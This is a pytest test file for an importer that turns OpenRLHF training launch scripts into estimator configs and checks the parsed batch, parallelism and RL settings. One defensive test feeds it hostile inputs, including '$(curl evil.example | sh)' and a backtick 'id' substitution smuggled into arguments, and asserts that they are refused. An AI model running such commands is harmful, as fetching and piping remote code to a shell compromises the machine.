"""The OpenRLHF importer on OpenRLHF's own example scripts (tests/data/launch/README.md), each mapped to a
JSON config written out here by hand from the scripts' flags, with an equal estimate."""

from pathlib import Path

import pytest

from estimator import ConfigError, estimate_config
from estimator.importers import estimate_imported, import_config
from import_refusals import SUBSTITUTION, TOO_LARGE

DATA = Path(__file__).parent / "data" / "launch" / "openrlhf"
LLAMA3_8B = ("--actor.model_name_or_path", "meta-llama/Meta-Llama-3-8B")  # a bundled model, for offline estimates
# DeepSpeed's defaults for the buckets OpenRLHF writes "auto" (DeepSpeed drops "auto" for its own)
BUCKETS = {"reduce_bucket_size": 500_000_000}
BUCKETS3 = {**BUCKETS, "stage3_prefetch_bucket_size": 50_000_000, "stage3_param_persistence_threshold": 100_000}


def text(name: str) -> str:
    return (DATA / name).read_text()


def test_ppo_hybrid_engine():
    result = import_config(text("train_ppo_ray_hybrid_engine.sh"))  # kind guessed: openrlhf.cli.train_ppo_ray
    assert result.kind == "openrlhf"
    # actor on 1 x 8 GPUs, ZeRO-3, bf16, gradient checkpointing; --train.colocate_all: 4 vLLM engines of TP 2
    # at 0.5 of each GPU; estimator gae (the default): PPO with a critic; --algo.kl.init_coef 0.01: a
    # reference; --ds.enable_sleep: DeepSpeed states offloaded during the rollout. 1024 prompts x 1 sample in
    # --data.max_len 2048 (no max_new_tokens: split in halves); dynamic batches of 16384 tokens = 8 sequences
    # of 2048; --train.batch_size 128
    rl = {"algorithm": "ppo", "rollout_batch_size": 1024, "samples_per_prompt": 1, "max_prompt_len": 1024,
          "max_response_len": 1024, "engine": "vllm", "engine_memory_fraction": 0.5, "reference_model": True,
          "critic_model": True, "offload_during_rollout": True, "rollout_tp": 2}
    expected = {"model": "OpenRLHF/Llama-3-8b-sft-mixture",
                "training": {"framework": "deepspeed", "attn_implementation": "flash_attention_2", **BUCKETS3, "recompute": "full", "rl": rl, "seq_len": 2048,
                             "micro_batch_size": 8, "global_batch_size": 128},
                "parallel": {"zero_stage": 3, "dp": 8}}
    assert result.config == expected
    unsupported = {s.name for s in result.unsupported}
    assert {"--reward.model_name_or_path", "--vllm.enforce_eager"} <= unsupported
    assert {"--ckpt.path", "--actor.adam.lr", "--critic.num_gpus_per_node"} <= {s.name for s in result.ignored}
    assert not result.unknown
    bundled = import_config(text("train_ppo_ray_hybrid_engine.sh"), overrides=LLAMA3_8B)
    assert bundled.config == {**expected, "model": "llama-3.1-8b"}
    assert estimate_imported(bundled).to_json() == estimate_config({**expected, "model": "llama-3.1-8b"}).to_json()


def test_dapo_group_norm_has_no_critic():
    result = import_config(text("train_dapo_ray_hybrid_engine.sh"), "openrlhf", overrides=LLAMA3_8B)
    rl = result.config["training"]["rl"]
    # group_norm: a per-prompt baseline, no value model; 128 prompts x 8 samples; vLLM at 0.6
    assert (rl["algorithm"], rl["critic_model"], rl["reference_model"]) == ("grpo", False, True)
    assert (rl["rollout_batch_size"], rl["samples_per_prompt"], rl["engine_memory_fraction"]) == (128, 8, 0.6)
    assert result.config["training"]["micro_batch_size"] == 8  # --train.micro_batch_size 8, no dynamic batches
    assert "--rollout.micro_batch_size" in {s.name for s in result.unsupported}


def test_sft_under_the_deepspeed_launcher():
    # the command sits in a heredoc read by `read`: the launcher line is not the one read, so --gpus gives
    # the world; --train.micro_batch_size 2 of --data.max_len 2048, ZeRO-2, batch 256
    result = import_config(text("train_sft.sh"), "openrlhf", gpus=8)
    expected = {"model": "llama-3.1-8b",
                "training": {"framework": "deepspeed", "attn_implementation": "flash_attention_2", **BUCKETS, "recompute": "full", "seq_len": 2048,
                             "micro_batch_size": 2, "global_batch_size": 256},
                "parallel": {"zero_stage": 2, "dp": 8}}
    assert result.config == expected
    assert estimate_imported(result).to_json() == estimate_config(expected).to_json()
    with pytest.raises(ConfigError, match="--gpus"):
        import_config(text("train_sft.sh"), "openrlhf")
    launched = import_config("deepspeed --num_gpus 4 --num_nodes 2 --module openrlhf.cli.train_sft "
                             "--model.model_name_or_path meta-llama/Meta-Llama-3-8B", "openrlhf")
    # train_sft.py's defaults: max_len 2048, micro-batch 8, batch 128, ZeRO-2, no checkpointing
    assert launched.config["parallel"]["dp"] == 8 and launched.config["training"]["micro_batch_size"] == 8


def test_sft_lora_on_mixtral():
    result = import_config(text("train_sft_mixtral_lora.sh"), "openrlhf", gpus=16)
    adapter = {"method": "lora", "rank": 64, "alpha": 64.0, "target_modules": "all-linear", "dropout": 0.0}
    expected = {"model": "mixtral-8x7b",
                "training": {"framework": "deepspeed", "attn_implementation": "flash_attention_2", **BUCKETS3, "recompute": "full", "adapter": adapter,
                             "seq_len": 2048, "micro_batch_size": 4, "global_batch_size": 128},
                "parallel": {"zero_stage": 3, "dp": 16}}
    assert result.config == expected
    assert estimate_imported(result).to_json() == estimate_config(expected).to_json()


def test_dpo_keeps_a_reference():
    result = import_config(text("train_dpo_llama.sh"), "openrlhf", gpus=8,
                           overrides=("--model.model_name_or_path", "meta-llama/Meta-Llama-3-8B", "--ref.offload"))
    # chosen and rejected of --data.max_len 8192 each, micro-batch 1, ZeRO-3
    expected = {"model": "llama-3.1-8b",
                "training": {"framework": "deepspeed", "attn_implementation": "flash_attention_2", **BUCKETS3, "recompute": "full",
                             "rl": {"algorithm": "dpo", "max_prompt_len": 4096, "max_response_len": 4096,
                                    "reference_model": True},
                             "seq_len": 8192, "micro_batch_size": 1, "global_batch_size": 256},
                "parallel": {"zero_stage": 3, "dp": 8}}
    assert result.config == expected
    assert estimate_imported(result).to_json() == estimate_config(expected).to_json()
    assert "--ref.offload" in {s.name for s in result.unsupported}


def test_ppo_without_colocation_is_the_actor_alone():
    line = ("python3 -m openrlhf.cli.train_ppo_ray --actor.model_name_or_path meta-llama/Meta-Llama-3-8B "
            "--actor.num_gpus_per_node 4 --vllm.num_engines 2 --rollout.batch_size 64 --data.max_len 4096 "
            "--train.micro_batch_size 2 --train.batch_size 64 --ds.adam_offload --ds.zero_stage 2")
    result = import_config(line, "openrlhf")
    assert "rl" not in result.config["training"]
    assert result.config["training"]["seq_len"] == 4096
    assert result.config["training"]["offload_optimizer"] == "cpu"
    assert {"--rollout.batch_size", "--vllm.num_engines"} <= {s.name for s in result.ignored}


def test_typos_and_bad_values_are_named():
    line = "python3 -m openrlhf.cli.train_sft --model.model_name_or_path meta-llama/Meta-Llama-3-8B "
    result = import_config(line + "--train.micro_bach_size 4", "openrlhf", gpus=8)
    assert [s.name for s in result.unknown] == ["--train.micro_bach_size"]
    with pytest.raises(ConfigError, match="--ds.zero_stage"):
        import_config(line + "--ds.zero_stage 4", "openrlhf", gpus=8)
    with pytest.raises(ConfigError, match="--ds.param_dtype"):
        import_config(line + "--ds.param_dtype fp8", "openrlhf", gpus=8)
    with pytest.raises(ConfigError, match="not an OpenRLHF trainer"):
        import_config("python3 -m openrlhf.cli.train_rm --model.model_name_or_path a/b", "openrlhf", gpus=8)




@pytest.mark.parametrize("line, refusal", [
    ("python3 -m openrlhf.cli.train_sft --model.model_name_or_path $(curl evil.example | sh)", SUBSTITUTION),
    ("python3 -m openrlhf.cli.train_sft --data.max_len `id` --model.model_name_or_path a/b", SUBSTITUTION),
    ("python3 -m openrlhf.cli.train_sft " + "--data.max_len 4096 " * 40_000, TOO_LARGE),
])
def test_hostile_lines_are_refused_by_their_guard(line, refusal, importer_reads):
    """Each is refused by the guard that bounds its cost, not by a clock (their times:
    bench/bench_refusals.py): a command substitution by the shell reader, which never runs it; text
    over MAX_BYTES by the size check, before any reader runs."""
    with pytest.raises(ConfigError) as info:
        import_config(line, "openrlhf", gpus=8)
    assert refusal in str(info.value)
    assert importer_reads == ([] if refusal == TOO_LARGE else ["openrlhf"])


def test_nccl_cumem_only_from_the_environment():
    """OpenRLHF v0.11.0 turns cuMem off only under vLLM < 0.16 (ppo_actor.py l. 501-508) and pins vLLM 0.27.1: the
    torch default unless the command's environment sets NCCL_CUMEM_ENABLE."""
    assert "nccl_cumem" not in import_config(text("train_ppo_ray_hybrid_engine.sh")).config["training"]
    script = text("train_ppo_ray_hybrid_engine.sh")
    for env in (script.replace("python3 -m", "NCCL_CUMEM_ENABLE=0 python3 -m"),
                "export NCCL_CUMEM_ENABLE=0\n" + script):
        result = import_config(env)
        assert result.config["training"]["nccl_cumem"] is False
